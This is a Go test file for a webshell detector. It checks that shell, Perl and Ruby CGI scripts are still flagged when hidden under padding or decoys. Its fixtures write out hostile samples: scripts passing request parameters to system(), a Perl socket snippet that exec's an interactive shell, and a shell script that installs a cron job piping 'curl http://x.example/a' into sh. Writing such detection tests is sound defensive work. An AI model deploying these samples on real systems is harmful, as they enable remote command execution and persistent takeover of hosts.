package script

import (
	"flag"
	"fmt"
	"strings"
	"testing"

	"limier/webshell"
	"limier/webshell/webshelltest"
)

var update = flag.Bool("update", false, "rewrite the section want of the archives")

func TestArchives(t *testing.T) {
	webshelltest.Run(t, "testdata", *update, Language)
}

func TestDeeds(t *testing.T) {
	for name, archive := range map[string]string{"x.cgi": "perl", "x.py": "python", "x.sh": "shell"} {
		webshelltest.Deeds(t, "testdata/"+archive+".deeds.txt", name, Language)
	}
}

func FuzzAnalyse(f *testing.F) {
	webshelltest.Fuzz(f, "testdata", Language)
}

func TestPathological(t *testing.T) {
	webshelltest.Pathological(t, Language, "x.sh", "#!/bin/sh\necho Content-Type: text/html\nsh -c \"$QUERY_STRING\"\nx=", "", 10<<20,
		"`", "$(", "open(a,", "sh ", "request.args", "a=b\n", "eval(b64decode(", "(", "$x=$x\n", "for a in ")
	webshelltest.Pathological(t, Language, "x.pl", "#!/usr/bin/perl\nuse CGI;\nsystem(param(\"a\"));\n$x = ", "", 10<<20,
		"\n", "eval(", "sub a {\n", "sub a{}\n", "Exec ", "1;\n=a\n\n=cut\n", "1;\n=a <<A < ", "\n=a;{{{", "1;\n$x = \"ab $x\";\nsystem($x);", "1;\nsystem($x,1,(")
	webshelltest.Pathological(t, Language, "x.rb", "#!/usr/bin/ruby\nrequire 'cgi'\nsystem(params[\"a\"])\nx = ", "", 10<<20,
		"def a(b):\n a(b)\n")
}

// Nor do decoys, nor what is long.
func TestExhausted(t *testing.T) {
	const head, run = "#!/usr/bin/perl\nuse CGI;\n", "system(param('x'));\n"
	const socket = "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, 6);\nopen(STDIN, '>&S');\nexec('/bin/sh -i');\n"
	decoys := strings.Repeat("system('a');\n", 40_000)
	webshelltest.Exhausted(t, Language, "a.pl", webshell.Malicious, map[string]string{
		"decoys":    head + decoys + run + decoys,
		"arguments": head + "system(" + strings.Repeat(" ", 20_000) + "param('x'));\n",
		"in a hash": head + "$v = {a=>system(param('x'))};\n",
		"socket":    "#!/usr/bin/perl\n" + strings.Repeat("$a = 1;\n", 100_000) + socket,
	})
	webshelltest.Exhausted(t, Language, "a.pl", webshell.Suspicious, map[string]string{
		"many decoys": head + strings.Repeat("eval 'a';\n", 150_000) + run,
		"questions":   head + strings.Repeat("$q = param('q');\n", 150_000) + run,
		"middle":      "#!/usr/bin/perl\n" + strings.Repeat("$a = 1;\n", 100_000) + socket + strings.Repeat("$a = 1;\n", 100_000),
	})
}

// Padding hides nothing, wherever it stands and whatever it is.
func TestPadding(t *testing.T) {
	const head = "#!/usr/bin/perl\nuse CGI;\nprint 'Content-type: text/html';\n"
	var texts, functions strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&texts, "$text%d = 'of no use to anyone %d';\n", i, i)
		fmt.Fprintf(&functions, "sub f%d {\n  my ($x) = @_;\n  return $x + %d;\n}\n", i, i)
	}
	for _, padding := range []string{texts.String(), functions.String()} {
		for _, page := range []string{
			head + "my $c = CGI->new->param('c');\nsystem($c);\n" + padding,
			head + "my $c = CGI->new->param('c');\n" + padding + "system($c);\n",
			head + "sub ask {\n  $c = CGI->new->param('c');\n}\n" + padding + "sub answer {\n  system($c);\n}\nask();\nanswer();\n",
		} {
			if v := webshell.Judge([]*webshell.Language{Language}, "a.pl", []byte(page)).Verdict; v != webshell.Webshell {
				t.Errorf("%q of %d bytes: %s", page[:120], len(page), v)
			}
		}
	}
}

// Nor does it hide what takes over a host, which answers no request.
func TestPaddedTakeover(t *testing.T) {
	const script = "fetch=\"curl http://x.example/a | sh\"\npkill other\nchmod +x b\n(crontab -l; echo \"* * * * * $fetch\") | crontab -\n"
	padding := strings.Repeat("words=1\n", 40_000)
	for _, text := range []string{script + padding, padding + script} {
		if v := webshell.Judge([]*webshell.Language{Language}, "a.sh", []byte("#!/bin/sh\n"+text)).Verdict; v != webshell.Malicious {
			t.Errorf("%d bytes: %s", len(text), v)
		}
	}
}

// Programs of Node.js are of another analyser.
func TestNode(t *testing.T) {
	if match("tools/build", []byte("#!/usr/bin/env node\nlet q = process.env.QUERY_STRING\n")) {
		t.Error("Node.js is read as a shell's script")
	}
}
